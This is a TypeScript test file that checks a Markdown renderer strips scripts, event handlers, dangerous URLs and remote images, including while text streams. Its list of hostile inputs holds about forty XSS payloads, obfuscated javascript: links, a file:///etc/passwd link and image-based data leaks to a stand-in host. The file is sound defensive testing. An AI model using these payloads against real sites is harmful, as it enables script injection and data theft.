import { afterEach, describe, expect, it, vi } from "vitest";
import { testWindow } from "../../testing/assemble.ts";
import { byName, type Rendered, render, user } from "../../testing/render.tsx";
import { httpsAddress } from "./https-address.ts";
import { Markdown } from "./markdown.tsx";

let shown: Rendered | null = null;
afterEach(async () => {
  await shown?.unmount();
  shown = null;
});
async function show(text: string, streaming = false) {
  const window = await testWindow();
  shown = await render(window, <Markdown text={text} streaming={streaming} />);
  return { window, root: shown.root };
}
/** Each text as an answer of its own, finished or growing. */
async function showAll(texts: readonly string[], streaming: boolean): Promise<readonly HTMLElement[]> {
  shown = await render(
    await testWindow(),
    texts.map((text) => <Markdown key={text} text={text} streaming={streaming} />),
  );
  return [...shown.root.querySelectorAll<HTMLElement>(".markdown")];
}

const hostile = [
  "<script>window.owned = 1</script>",
  '<img src=x onerror="window.owned = 1">',
  "<svg onload=window.owned=1><script>window.owned=1</script></svg>",
  '<iframe srcdoc="<script>parent.owned=1</script>"></iframe>',
  "<style>* { display: none }</style>",
  "<!-- hidden --><b>after</b><!-- > --><script>window.owned=1</script>",
  '<a href="javascript:window.owned=1">x</a>',
  "<form action=https://evil.example><button formaction=javascript:window.owned=1>x</form>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<details open ontoggle=window.owned=1>x</details>",
  "<math><mtext><script>window.owned=1</script></mtext></math>",
  "[x](javascript:window.owned=1)",
  "[x](JaVaScRiPt:window.owned=1)",
  "[x](java\tscript:window.owned=1)",
  "[x](&#106;avascript:window.owned=1)",
  "[x](data:text/html,<script>window.owned=1</script>)",
  "[x](vbscript:msgbox)",
  "[x](file:///etc/passwd)",
  "[x](//evil.example/path)",
  "[x](http://plain.example)",
  "[x](https://good.example@evil.example)",
  "[x](casebook://open)",
  "<javascript:window.owned=1>",
  "![leak](https://evil.example/?q=secret)",
  "![leak](data:image/svg+xml,<svg onload=window.owned=1>)",
  "[![leak](https://evil.example/x.png)](https://evil.example)",
  "![leak][1]\n\n[1]: https://evil.example/x.png",
  "[x]: javascript:window.owned=1\n\n[x]",
  "| a |\n|---|\n| <img src=x onerror=window.owned=1> ![l](https://evil.example/x.png) |",
  "- <script>window.owned=1</script>\n- ![l](https://evil.example/x.png)",
  "> <iframe src=https://evil.example></iframe>",
  "# <img src=x onerror=window.owned=1>",
  "[^1]\n\n[^1]: <img src=x onerror=window.owned=1> [y](javascript:window.owned=1)",
  "```html\n<script>window.owned=1</script>",
  "````\n```\n<img src=x onerror=window.owned=1>",
  "`<img src=x onerror=window.owned=1>",
  "**<img src=x onerror=window.owned=1",
  "[x](https://evil.example",
  "![x](https://evil.example/x.png",
  "</div></div></main><script>window.owned=1</script>",
];
const allowed = new Set(
  "DIV P H3 H4 H5 H6 UL OL LI STRONG EM DEL SUP SECTION BLOCKQUOTE THEAD TBODY TR TH TD TABLE PRE CODE SPAN BUTTON BR HR svg rect path".split(
    " ",
  ),
);
const allowedAttributes = new Set(
  "class type start role tabindex aria-label aria-hidden data-align data-state data-slot xmlns width height viewBox fill stroke stroke-width stroke-linecap stroke-linejoin x y rx ry d".split(
    " ",
  ),
);

/** Nothing but the elements that we make ourselves, with nothing on them that could act. */
function expectHarmless(root: HTMLElement, text: string): void {
  for (const element of [root, ...root.querySelectorAll("*")]) {
    expect(allowed, `${element.tagName} from ${text}`).toContain(element.tagName);
    for (const name of element.getAttributeNames()) {
      expect(allowedAttributes, `${name} on ${element.tagName} from ${text}`).toContain(name);
    }
  }
  expect(Reflect.get(globalThis, "owned")).toBeUndefined();
}

describe("hostile Markdown", () => {
  it("leaves nothing that runs, loads or leads anywhere, finished or in the middle of streaming", async () => {
    for (const streaming of [false, true]) {
      const roots = await showAll(hostile, streaming);
      expect(roots).toHaveLength(hostile.length);
      roots.forEach((root, at) => expectHarmless(root, hostile[at] ?? ""));
      await shown?.unmount();
    }
  });

  it("is harmless at every length while it arrives", async () => {
    const texts = hostile.flatMap((text) =>
      Array.from({ length: Math.floor(text.length / 5) }, (_, step) => text.slice(0, (step + 1) * 5)),
    );
    const roots = await showAll([...new Set(texts)], true);
    for (const root of roots) expectHarmless(root, root.textContent ?? "");
  });

  it("shows raw HTML as the text that it is", async () => {
    const { root } = await show("Before <b onclick=x>bold</b> after");
    expect(root.textContent).toBe("Before <b onclick=x>bold</b> after");
  });

  it("shows an image by its description only", async () => {
    const { root } = await show("See ![a round spot](https://evil.example/x.png) here");
    expect(root.querySelector("img")).toBeNull();
    expect(root.textContent).toBe("See a round spot here");
  });
});

describe("Markdown", () => {
  it("renders tables, nested lists, code and headings below the turn's own", async () => {
    const { root } = await show(
      "# Findings\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n3. three\n   - inner\n\n```js\nlet a;\n```\n\n- [x] done",
    );
    expect(root.querySelector("h3")?.textContent).toBe("Findings");
    expect(root.querySelector("h1, h2")).toBeNull();
    expect(root.querySelectorAll("td")[1]?.getAttribute("data-align")).toBe("right");
    expect(root.querySelector("ol")?.getAttribute("start")).toBe("3");
    expect(root.querySelector("ol ul li")?.textContent).toBe("inner");
    expect(root.querySelector("pre")?.textContent).toBe("let a;\n");
    expect(root.textContent).toContain("[x] done");
  });

  it("closes what is still open while it streams, and shows it as it is in the end", async () => {
    const growing = await show("One **dark sp", true);
    expect(growing.root.querySelector("strong")?.textContent).toBe("dark sp");
    await shown?.unmount();
    const ended = await show("One **dark sp");
    expect(ended.root.querySelector("strong")).toBeNull();
    expect(ended.root.textContent).toBe("One **dark sp");
  });

  it("copies a code block to the clipboard", async () => {
    const write = vi.spyOn(navigator.clipboard, "writeText").mockResolvedValue();
    await show('```json\n{ "a": 1 }\n```');
    await user(() => byName("button", "Copy code").click());
    expect(write).toHaveBeenCalledWith('{ "a": 1 }\n');
    expect(byName("button", "Copied")).toBeTruthy();
  });
});

describe("links", () => {
  it("show their host, ask first, and open through the app only", async () => {
    const { window } = await show("[the guideline](https://example.org/path?q=1)");
    window.core.on("app.openLink", () => ({ opened: true }));
    const link = byName("button", "the guideline (example.org)");
    await user(() => link.click());
    expect(window.core.calls.some(({ method }) => method === "app.openLink")).toBe(false);
    expect(document.querySelector("[role=dialog]")?.textContent).toContain("https://example.org/path?q=1");
    await user(() => byName("[role=dialog] button", "Open in the browser").click());
    expect(window.core.calls.findLast(({ method }) => method === "app.openLink")).toEqual({
      method: "app.openLink",
      params: { url: "https://example.org/path?q=1" },
    });
    expect(document.querySelector("[role=dialog]")).toBeNull();
  });

  it("do nothing when the question is declined", async () => {
    const { window } = await show("https://example.org");
    await user(() => byName("button", "https://example.org (example.org)").click());
    await user(() => byName("[role=dialog] button", "Stay here").click());
    expect(window.core.calls.some(({ method }) => method === "app.openLink")).toBe(false);
  });

  it("name the host that is really opened, whatever the text says", async () => {
    await show("[https://good.example](https://xn--80ak6aa92e.com/login)");
    expect(byName("button", /xn--80ak6aa92e\.com/)).toBeTruthy();
  });
});

describe("httpsAddress", () => {
  it("lets https through and nothing else", () => {
    expect(httpsAddress("https://example.org")).toBe("https://example.org/");
    for (const address of [
      "http://example.org",
      "javascript:alert(1)",
      " javascript:alert(1)",
      "https://user@example.org",
      "https://user:word@example.org",
      "//example.org",
      "#id",
      "",
      "ftp://example.org",
    ]) {
      expect(httpsAddress(address), address).toBe("");
    }
  });
});
